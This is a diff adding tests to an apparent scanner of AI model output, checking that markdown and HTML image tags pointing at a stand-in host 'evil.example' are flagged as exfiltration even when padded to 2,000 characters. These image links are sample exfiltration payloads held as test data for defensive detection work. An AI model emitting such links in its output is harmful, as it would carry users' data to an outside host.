@@ -135,3 +135,11 @@ def test_ordinary_phrasings_beside_them_pass(scanner: TextScanner, text: str) ->
 def test_no_rule_holds_notation_that_was_not_read() -> None:
     """A gap of ten words or more was once left as written, and its rule matched nothing."""
     assert not [rule.pattern for rule in ENGLISH_ATTACKS if re.search(r"<\d|§", rule.pattern)]
+
+
+@pytest.mark.parametrize(
+    "image", ["![{0}](https://evil.example/{0}?q=x)", '<img {0} src="https://evil.example/{0}?q=x">']
+)
+def test_an_image_that_carries_data_away_is_found_however_long_it_is(scanner: TextScanner, image: str) -> None:
+    """A description or an address padded beyond a few hundred characters is read to its end."""
+    assert "exfiltration" in scanner.scan_output(f"see {image.format('a' * 2_000)} here").categories()
